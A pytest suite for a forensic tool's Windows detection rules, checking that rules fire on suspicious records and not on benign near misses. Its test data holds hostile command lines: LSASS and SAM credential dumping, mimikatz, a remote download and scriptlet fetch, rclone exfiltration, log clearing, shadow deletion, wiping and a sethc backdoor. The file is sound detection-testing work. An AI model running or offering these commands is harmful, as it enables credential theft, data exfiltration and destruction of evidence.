"""Windows rules and the templates: they load and name what exists; important ones fire on their record and not on a near miss."""

from __future__ import annotations

import importlib.resources
import re
from collections.abc import Callable, Iterator
from fnmatch import fnmatchcase
from pathlib import Path
from typing import Any

import pytest
import yaml

from wigmore.agents.templates import Template, load_templates
from wigmore.graph.semantics import LETTERS, Semantics
from wigmore.model.nouns import NEUTRAL
from wigmore.model.protocols import Record
from wigmore.model.times import iso
from wigmore.records.indicators import match, scan
from wigmore.records.rows import RowMaker
from wigmore.records.rules import Indicator, load_indicators
from wigmore.records.store import RecordStore
from wigmore.registry import found, parsers, tools

RULES = Path(str(importlib.resources.files("wigmore") / "rules"))
MADE_BY_CODE = {"file_listing", "volume", "partition", "container", "encrypted_volume", "shadow_copy"}
AUDIT = "Microsoft-Windows-Security-Auditing"
SYSMON = "Microsoft-Windows-Sysmon"
LOG = "Microsoft-Windows-Eventlog"
DEFENDER = "Microsoft-Windows-Windows Defender"
SCM = "Service Control Manager"
LSM = "Microsoft-Windows-TerminalServices-LocalSessionManager"
ACCOUNT = "S-1-5-21-1-2-3-1001"
Scene = Record | dict[str, Any] | list[Record]
Fires = Callable[..., list[list[str]]]


@pytest.fixture(scope="module")
def indicators() -> dict[str, Indicator]:
    return load_indicators([RULES])


@pytest.fixture(scope="module")
def templates() -> dict[str, Template]:
    return load_templates([RULES])


@pytest.fixture(scope="module")
def known() -> set[str]:
    return {a for p in parsers().values() for a in p.artifacts} | MADE_BY_CODE


@pytest.fixture
def fires(tmp_path: Path, indicators: dict[str, Indicator]) -> Iterator[Fires]:
    """Which Windows rules match the records of one artifact, for each of several scenes (each a source of its own)."""
    store = RecordStore(tmp_path / "case")

    def run(artifact: str, *scenes: Scene, path: str = "log") -> list[list[str]]:
        for number, scene in enumerate(scenes):
            maker, spool = RowMaker(f"src-{number}", path, None, artifact), tmp_path / f"{artifact}-{number}.jsonl"
            rows = [
                r if isinstance(r, Record) else Record(r, {}) for r in (scene if isinstance(scene, list) else [scene])
            ]
            lines = (maker.line(n, {"kind": "record", "number": n}, r)[2] for n, r in enumerate(rows))
            spool.write_bytes(b"".join(lines))
            store.add([store.write_part(f"src-{number}", artifact, [spool])])
        ours = {
            rule.id: rule
            for rule in indicators.values()
            if rule.origin.startswith("windows") and any(fnmatchcase(artifact, a) for a in rule.artifacts)
        }
        hits = sorted(scan(store, ours.values(), None))
        return [[name for name in hits if match(store, ours[name], f"src-{n}", {})] for n in range(len(scenes))]

    yield run
    store.close()


def event(number: int, provider: str, time: str = "", **values: Any) -> Record:
    data = {
        "event_id": number,
        "provider": provider,
        "computer": "HOST1",
        "channel": values.pop("channel", "Security"),
        **values,
    }
    return Record(data, {"time_created": iso(time)} if time else {}, "time_created" if time else None)  # type: ignore[dict-item]


def started(line: str, image: str = r"C:\Windows\System32\cmd.exe", **values: Any) -> Record:
    return event(1, SYSMON, CommandLine=line, Image=image, User=r"HOST1\someone", **values)


# what the files name must exist -----------------------------------------------------------------------------------------


def test_every_artifact_of_a_windows_rule_is_made_by_some_parser(
    indicators: dict[str, Indicator], known: set[str]
) -> None:
    later = {"windows.powershell_history"}  # the name PSReadLine histories have beside linux.history
    missing = [
        (r.id, a)
        for r in indicators.values()
        if r.origin.startswith("windows")
        for a in r.artifacts
        if a not in later and not any(fnmatchcase(k, a) for k in known)
    ]
    assert not missing


def test_bearings_name_templates_alternatives_and_propositions_that_exist(
    indicators: dict[str, Indicator], templates: dict[str, Template]
) -> None:
    semantics = Semantics.load([RULES])
    for rule in indicators.values():
        for bearing in rule.bears_on:
            name, _, alternative = bearing.template.partition("/")
            others = {a.id for a in templates[name].alternatives}
            assert not alternative or alternative in others, (rule.id, bearing)
            assert not bearing.against or bearing.against in others | {name}, (rule.id, bearing)
            capped = [
                semantics.cap(bearing.edge, a.replace("*", "x"), bearing.proposition).edge_type for a in rule.artifacts
            ]
            assert any(c != NEUTRAL for c in capped), (rule.id, bearing, "no artifact of the rule may carry this")


def test_probes_name_rules_roles_and_tools_that_exist(
    indicators: dict[str, Indicator], templates: dict[str, Template]
) -> None:
    roles, known_tools = found("role"), tools()
    for template in templates.values():
        for probe in template.probes:
            assert all(r in indicators for r in probe.rules), (template.id, probe.id, probe.rules)
            assert not probe.tool or probe.tool in known_tools, (template.id, probe.id)
            assert probe.role in roles, (template.id, probe.id)
            assert not probe.against or probe.against in {a.id for a in template.alternatives}, (template.id, probe.id)


def test_every_template_has_a_decisive_and_a_disconfirming_probe_and_an_innocent_explanation(
    templates: dict[str, Template],
) -> None:
    assert len(templates) >= 18
    for template in templates.values():
        assert template.alternatives, template.id
        if not template.judged_by:  # else a role weighs it whole, both ways, when it raises it
            assert any(p.decisive for p in template.probes), template.id
            assert any(p.disconfirming for p in template.probes), template.id
        assert template.reference.startswith("H"), template.id


def test_every_artifact_of_every_parser_has_an_entry_in_the_semantics(known: set[str]) -> None:
    entries = yaml.safe_load((RULES / "semantics.yaml").read_text(encoding="utf-8"))
    names = [e["artifact"] for e in entries]
    entered = [(e["artifact"], str(e.get("given")), code) for e in entries for code in e["carries"]]
    assert len(entered) == len(set(entered))
    assert not [
        a
        for a in sorted(known)
        if a not in ("encrypted_volume", "shadow_copy") and not any(fnmatchcase(a, n) for n in names)
    ]
    assert all(str(letter) in LETTERS for e in entries for letter in e["carries"].values())
    assert not [e["artifact"] for e in entries if {"KNEW", "PERSON"} & {k for k, v in e["carries"].items() if v == "D"}]


def test_titles_state_only_fields_that_stand_in_the_facts(indicators: dict[str, Indicator]) -> None:
    for rule in indicators.values():
        if rule.origin.startswith("windows"):
            named = set(re.findall(r"\{([^{}]+)\}", rule.title)) - {"count", "first", "last", "host"}
            assert named <= set(rule.facts), (rule.id, named - set(rule.facts))
            assert not rule.bears_on or rule.caveat, rule.id


def test_techniques_have_the_form_of_attack_ids(
    indicators: dict[str, Indicator], templates: dict[str, Template]
) -> None:
    ids = [(r.id, t) for r in indicators.values() for t in r.attack] + [
        (t.id, a) for t in templates.values() for a in t.attack
    ]
    assert not [i for i in ids if not re.fullmatch(r"T\d{4}(\.\d{3})?", i[1])]


def test_the_catalogue_names_tools_and_artifacts_that_exist(known: set[str]) -> None:
    for source in yaml.safe_load((RULES / "expected.yaml").read_text(encoding="utf-8")):
        for entry in source["artifacts"]:
            named = {d.strip().partition("@")[0] for d in entry["detector"].split("|")}
            assert named <= set(tools()), (source["source"], entry["name"], named - set(tools()))
            for artifact in (one for choices in entry["records"] for one in choices.split("|")):
                assert any(k == artifact or k.startswith(artifact + ".") for k in known), (source["source"], artifact)


# important rules: the record and its near miss --------------------------------------------------------------------------


def test_a_log_cleared_by_an_account_is_seen_and_one_cleared_by_the_system_is_not(fires: Fires) -> None:
    by_account, by_system, other = fires(
        "windows.eventlog",
        event(1102, LOG, SubjectUserName="someone", SubjectUserSid=ACCOUNT),
        event(104, LOG, SubjectUserName="SYSTEM", SubjectUserSid="S-1-5-18", channel="System"),
        event(1102, "Some-Other-Provider", SubjectUserName="someone", SubjectUserSid=ACCOUNT),
    )
    assert by_account == ["evtx.log_cleared"]
    assert by_system == ["evtx.cleared_at_set_up"]
    assert not other


def test_set_up_accounts_are_left_alone_and_an_account_made_by_an_account_is_seen(fires: Fires) -> None:
    actor, setup = (
        {"SubjectUserName": "someone", "SubjectUserSid": ACCOUNT},
        {"SubjectUserName": "MINWINPC$", "SubjectUserSid": "S-1-5-18"},
    )
    values = {"TargetUserName": "helper", "TargetSid": "S-1-5-21-1-2-3-1007"}
    made, by_system, users, raised, same, renamed = fires(
        "windows.eventlog",
        event(4720, AUDIT, **actor, **values),
        event(4720, AUDIT, **setup, **values),
        event(4732, AUDIT, **actor, TargetSid="S-1-5-32-545", MemberSid=ACCOUNT),
        event(4732, AUDIT, **actor, TargetSid="S-1-5-32-544", MemberSid=ACCOUNT),
        event(4781, AUDIT, **actor, OldTargetUserName="Guests", NewTargetUserName="guests"),
        event(4781, AUDIT, **actor, OldTargetUserName="helper", NewTargetUserName="svc"),
    )
    assert made == ["evtx.account_created"]
    assert by_system == ["evtx.account_changed_by_system"]
    assert not users
    assert raised == ["evtx.account_to_administrators"]
    assert not same
    assert renamed == ["evtx.account_renamed"]


def failures(count: int, seconds: int, address: str = "192.0.2.7", why: str = "0xc000006a") -> list[Record]:
    values = {"TargetUserName": "admin", "LogonType": 3, "Status": "0xc000006d", "SubStatus": why}
    times = [
        f"2026-01-01T{10 + n * seconds // 3600}:{n * seconds // 60 % 60:02d}:{n * seconds % 60:02d}Z"
        for n in range(count)
    ]
    return [event(4625, AUDIT, time, IpAddress=address, **values) for time in times]


def success(address: str, time: str = "2026-01-01T10:20:00Z", **values: Any) -> Record:
    more = {"TargetUserName": "admin", "TargetUserSid": ACCOUNT, "LogonType": 3, **values}
    return event(4624, AUDIT, time, IpAddress=address, **more)


def test_a_burst_of_failures_needs_number_and_speed(fires: Fires) -> None:
    noise = [
        event(4625, "Microsoft-Windows-EventSystem", f"2026-01-01T10:00:{n:02d}Z", channel="Application")
        for n in range(20)
    ]
    expired = failures(9, 10, why="0xc0000071")  # the system says so only to who gave the right password
    burst, few, slow, other, right = fires(
        "windows.eventlog", failures(9, 10), failures(4, 10), failures(9, 400), noise, expired
    )
    assert burst == ["evtx.logon_failures_address"]
    assert not few and not slow and not other and "evtx.logon_failures_address" not in right


def test_guessing_succeeds_only_with_a_success_from_the_same_origin_afterwards(fires: Fires) -> None:
    scenes = fires(
        "windows.eventlog",
        [*failures(9, 10), success("192.0.2.7")],
        [*failures(9, 10), success("192.0.2.99")],
        [success("192.0.2.7", "2026-01-01T09:00:00Z"), *failures(9, 10)],
        [*failures(9, 10), success("192.0.2.7", TargetUserSid="S-1-5-7", TargetUserName="ANONYMOUS LOGON")],
        [*failures(9, 10, why="0xc0000071"), success("192.0.2.7")],  # the password was renewed
    )
    assert ["evtx.failures_then_logon" in s for s in scenes] == [True, False, False, False, False]


def test_remote_desktop_needs_a_remote_address_and_the_loopback_is_a_tunnel(fires: Fires) -> None:
    session, console, tunnel, logon, network = fires(
        "windows.eventlog",
        event(21, LSM, Address="198.51.100.4", User="a"),
        event(21, LSM, Address="LOCAL", User="a"),
        success("127.0.0.1", LogonType=10),
        success("198.51.100.4", LogonType=10),
        success("198.51.100.4", LogonType=3),
    )
    assert session == ["evtx.rdp_session"]
    assert console == ["evtx.rdp_local_sessions"]
    assert tunnel == ["evtx.rdp_loopback"]
    assert logon == ["evtx.rdp_logon"]
    assert not network


def test_command_lines_of_concern_are_seen(fires: Fires) -> None:
    wanted = {
        r"certutil.exe -urlcache -f http://192.0.2.1/a.exe a.exe": "cmd.download",
        r"regsvr32.exe /u /s /i:http://192.0.2.1/a.sct scrobj.dll": "cmd.regsvr32",
        r"powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA": "cmd.encoded_powershell",
        r"vssadmin.exe delete shadows /all /quiet": "cmd.recovery_removed",
        r"wevtutil cl Security": "cmd.log_cleared",
        r"reg save HKLM\SAM C:\temp\s.hiv": "cmd.account_database_saved",
        r"procdump64.exe -accepteula -ma lsass.exe C:\x.dmp": "cmd.lsass_dump",
        r"rundll32 C:\windows\system32\comsvcs.dll, MiniDump 4868 C:\x.bin full": "cmd.process_dumped",
        r'reg add "HKLM\SOFTWARE\X\Image File Execution Options\sethc.exe" /v Debugger /d cmd.exe': "cmd.debugger_added",
        r"net localgroup administrators helper /add": "cmd.account_added",
        r"schtasks /create /sc minute /mo 5 /tn X /tr C:\TMP\a.exe": "cmd.task_created",
        r"rclone.exe copy C:\work remote:drop": "cmd.transfer_out",
        r"sdelete64.exe -p 3 C:\work\list.xlsx": "cmd.wipe",
        r"netsh advfirewall set allprofiles state off": "cmd.protection_disabled",
    }
    scenes = fires("windows.eventlog", *(started(line) for line in wanted))
    assert [(line, rule) for (line, rule), seen in zip(wanted.items(), scenes, strict=True) if rule not in seen] == []


def test_ordinary_command_lines_are_left_alone(fires: Fires) -> None:
    ordinary = [
        r"certutil.exe -hashfile C:\Users\a\setup.exe SHA256",
        r"C:\Windows\system32\regsvr32.exe /s C:\Windows\System32\some.dll",
        r"powershell -File C:\Windows\CCM\script.ps1",
        r"vssadmin list shadows",
        r"wevtutil set-log Application /ms:20971520",
        r'reg query "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"',
        r"net localgroup administrators",
        r"schtasks /query /fo list",
        r"rclone version",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        r"ping 127.0.0.1 -n 133",
        r"ngen.exe uninstall C:\Windows\assembly\NativeImages\Some.ni.dll /noroot",
    ]
    other_event = event(1, "Microsoft-Windows-Kernel-General", CommandLine="wevtutil cl Security")
    scenes = fires(
        "windows.eventlog", *(started(line, r"C:\Windows\System32\program.exe") for line in ordinary), other_event
    )
    assert [(line, seen) for line, seen in zip([*ordinary, "no process start"], scenes, strict=True) if seen] == []


def test_a_scheduled_credential_tool_is_persistence_and_a_local_remote_tool_is_local(fires: Fires) -> None:
    line = r'schtasks /create /f /sc minute /mo 5 /tn X /tr "C:\TMP\m.exe sekurlsa::LogonPasswords > C:\TMP\o.txt"'
    task, local, remote = fires(
        "windows.eventlog",
        started(line, r"C:\Windows\System32\schtasks.exe"),
        started(r"psexec64.exe -accepteula -s cmd.exe", r"C:\Tools\psexec64.exe"),
        started(r"psexec64.exe \\srv01 -s cmd.exe", r"C:\Tools\psexec64.exe"),
    )
    assert task == ["cmd.credential_reader_set_up", "cmd.task_created"]  # and not cmd.lsass_dump: nothing was read
    assert local == ["cmd.psexec_client", "cmd.remote_execution_to_self"]
    assert remote == ["cmd.psexec_client", "cmd.remote_execution"]


def test_services_of_drivers_and_updaters_are_left_alone(fires: Fires) -> None:
    def service(name: str, image: str, second: int = 0) -> Record:
        more = {"ServiceName": name, "ImagePath": image, "ServiceType": "user mode service", "channel": "System"}
        return event(7045, SCM, f"2026-01-01T10:20:{second:02d}Z", **more)

    tool, shell, public, driver, updater, hosted, soon, late = fires(
        "windows.eventlog",
        service("PSEXESVC", r"%SystemRoot%\PSEXESVC.exe"),
        service("abc", r"%COMSPEC% /Q /c echo x ^> \\127.0.0.1\C$\__o"),
        service("abc", r"C:\Users\Public\a.exe"),
        service("e1i65x64", r"\SystemRoot\System32\drivers\e1i65x64.sys"),
        service("gupdate", r'"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /svc'),
        service("print", r"%SystemRoot%\system32\svchost.exe -k print"),
        [success("198.51.100.4"), service("x", r"C:\Windows\a.exe", 3)],
        [success("198.51.100.4"), service("x", r"C:\Windows\a.exe", 40)],
    )
    assert tool == ["evtx.psexec_service"]
    assert shell == ["evtx.service_command", "evtx.service_command_auto"]
    assert public == ["evtx.service_user_writable"]
    assert not driver and not updater and not hosted
    assert soon == ["evtx.logon_then_service"]
    assert not late


def test_protection_that_reads_the_logon_process_is_no_dump(fires: Fires) -> None:
    def opened(image: str, access: str = "0x1010") -> Record:
        return event(10, SYSMON, SourceImage=image, TargetImage=r"C:\Windows\system32\lsass.exe", GrantedAccess=access)

    tool, protection, query = fires(
        "windows.eventlog",
        opened(r"C:\Users\a\m.exe"),
        opened(r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe"),
        opened(r"C:\Users\a\m.exe", "0x1000"),
    )
    assert tool == ["evtx.lsass_access"]
    assert protection == ["evtx.lsass_access_by_protection"]
    assert not query


def test_windows_own_subscription_and_the_time_service_are_left_alone(fires: Fires) -> None:
    wmi, who = "Microsoft-Windows-WMI-Activity", {"SubjectUserSid": ACCOUNT, "SubjectUserName": "someone"}
    default, foreign, service, program = fires(
        "windows.eventlog",
        event(5861, wmi, CONSUMER='NTEventLogEventConsumer="SCM Event Log Consumer"', ESS="SCM Event Log Filter"),
        event(5861, wmi, CONSUMER='CommandLineEventConsumer="x"', ESS="f"),
        event(4616, AUDIT, ProcessName=r"C:\Windows\System32\svchost.exe", **who),
        event(4616, AUDIT, ProcessName=r"C:\Windows\System32\dllhost.exe", **who),
    )
    assert default == ["evtx.wmi_default_subscription"]
    assert foreign == ["evtx.wmi_subscription"]
    assert not service
    assert program == ["evtx.clock_changed"]


def test_a_creation_time_set_back_counts_and_one_set_forward_or_by_an_installer_does_not(fires: Fires) -> None:
    def stamped(image: str, now: str, before: str) -> Record:
        data = {
            "event_id": 2,
            "provider": SYSMON,
            "computer": "HOST1",
            "Image": image,
            "TargetFilename": r"C:\Users\a\t.exe",
        }
        return Record(data, {"CreationUtcTime": iso(now), "PreviousCreationUtcTime": iso(before)}, None)  # type: ignore[dict-item]

    old, new = "2016-02-02T15:30:02Z", "2019-04-30T10:12:45Z"
    back, forward, installer = fires(
        "windows.eventlog",
        stamped(r"C:\Users\a\x.exe", old, new),
        stamped(r"C:\Users\a\x.exe", new, old),
        stamped(r"C:\Windows\System32\msiexec.exe", old, new),
    )
    assert back == ["evtx.file_time_changed"]
    assert not forward
    assert installer == ["evtx.file_time_changed_by_installer"]


def test_routine_settings_of_the_protection_are_not_its_end(fires: Fires) -> None:
    def set_to(value: str) -> Record:
        return event(5007, DEFENDER, **{"New Value": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\" + value})

    stopped, off, added, *routine = fires(
        "windows.eventlog",
        event(5001, DEFENDER),
        set_to("Real-Time Protection\\DisableRealtimeMonitoring = 0x1"),
        set_to("Exclusions\\Paths\\C:\\TMP = 0x0"),
        set_to("SpyNet\\MAPSconcurrency = 0x1"),
        set_to("Features\\TamperProtection = 0x1"),
        set_to("Real-Time Protection\\DisableRealtimeMonitoring = 0x0"),
    )
    assert stopped == off == ["evtx.defender_disabled"]
    assert added == ["evtx.defender_exclusion"]
    assert routine == [[], [], []]


def test_prefetch_of_system_programs_in_their_own_folder_is_nothing(fires: Fires) -> None:
    def ran(name: str, folder: str) -> dict[str, Any]:
        return {"executable": name, "executable_path": "\\VOLUME{01d8-1a48}\\" + folder + "\\" + name, "run_count": 2}

    own, shell, unpacked, foreign, copier, wiper = fires(
        "windows.prefetch",
        ran("SVCHOST.EXE", r"WINDOWS\SYSTEM32"),
        ran("EXPLORER.EXE", "WINDOWS"),
        ran("DISMHOST.EXE", r"WINDOWS\TEMP\1F626032-A0AB-11EC-AAFA-EC63D7728336"),
        ran("SVCHOST.EXE", r"USERS\PUBLIC"),
        ran("RCLONE.EXE", r"USERS\A\APPDATA\LOCAL\TEMP\RC"),
        ran("SDELETE64.EXE", r"USERS\A\TOOLS"),
    )
    assert not own and not shell
    assert unpacked == ["prefetch.installer_from_temp"]
    assert foreign == ["prefetch.system_name_wrong_place", "prefetch.user_writable"]
    assert copier == ["prefetch.transfer_tool", "prefetch.user_writable"]
    assert wiper == ["prefetch.wiping_tool"]


def test_seeded_and_undated_counters_are_no_use_of_a_program(fires: Fires) -> None:
    def counted(seeded: bool, time: str = "2026-01-01T10:00:00Z") -> Record:
        data = {"name": "AnyDesk.exe", "path": r"C:\Tools\AnyDesk.exe", "counter": 5, "seed_suspected": seeded}
        return Record(data, {"last_run": iso(time)} if time else {})  # type: ignore[dict-item]

    scenes = fires("windows.registry.userassist", counted(False), counted(True), counted(False, ""))
    assert scenes == [["reg.userassist_remote_access"], [], []]


def test_autostart_of_installed_and_per_account_products_is_left_alone(fires: Fires) -> None:
    def entry(command: str) -> dict[str, Any]:
        return {
            "command": command,
            "name": "X",
            "mechanism": "run",
            "key": r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run",
        }

    scenes = fires(
        "windows.registry.autostart",
        entry(r"C:\Users\a\AppData\Local\Temp\rc\s.cmd /quiet"),
        entry(r"%windir%\system32\SecurityHealthSystray.exe"),
        entry(r'"C:\Users\a\AppData\Local\Discord\Update.exe" --processStart Discord.exe'),
    )
    assert scenes == [["reg.autostart_user_writable"], [], ["reg.autostart_per_account_product"]]


def test_built_in_accounts_are_left_alone_and_a_borrowed_number_is_seen(fires: Fires) -> None:
    scenes = fires(
        "windows.registry.account",
        {"user_name": "a", "rid": 1001, "rid_in_f": 1001},
        {"user_name": "DefaultAccount", "rid": 503, "rid_in_f": 503},
        {"user_name": "Guest", "rid": 501, "rid_in_f": 500},
    )
    assert scenes == [["reg.account_unused", "reg.local_account"], [], ["reg.hidden_account"]]


def test_only_storage_devices_are_removable_media(fires: Fires) -> None:
    stick, drive = fires(
        "windows.registry.usb_storage",
        {"serial": "1234", "device_id": "Disk&Ven_X", "is_current": True},
        {"serial": "1234", "device_id": "CdRom&Ven_X", "is_current": True},
    )
    assert (stick, drive) == (["reg.usb_storage"], [])
    assert fires("windows.registry.usb_device", {"serial": "8db9", "device_id": "VID_05AC&PID_12A8"}) == [[]]


def test_shell_lines_need_a_windows_history_and_links_a_removable_drive(fires: Fires) -> None:
    history = "Users/a/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
    scenes = fires("linux.history", {"command": "wevtutil cl Security"}, {"command": "wevtutil el"}, path=history)
    assert scenes == [["hist.log_cleared"], []]
    links = fires(
        "windows.lnk",
        {"local_path": "E:\\a", "drive_type": "removable"},
        {"local_path": "C:\\a", "drive_type": "fixed"},
    )
    assert links == [["lnk.removable_item"], []]


def test_a_line_in_another_shells_history_is_not_a_windows_one(fires: Fires) -> None:
    assert fires("linux.history", {"command": "wevtutil cl Security"}, path="home/a/.bash_history") == [[]]


def test_tasks_of_vendors_are_left_alone(fires: Fires) -> None:
    def task(line: str) -> dict[str, Any]:
        return {"task_name": "T", "task_path": "\\T", "command_line": line}

    scenes = fires(
        "windows.scheduled_task",
        task(r"C:\Users\a\AppData\Local\Temp\rc\sync.cmd /quiet"),
        task(r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe /ua /installsource scheduler"),
        task(r"%SystemRoot%\system32\ClipRenew.exe -e"),
        task(r"%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe"),
    )
    assert scenes == [["task.user_writable"], [], [], []]
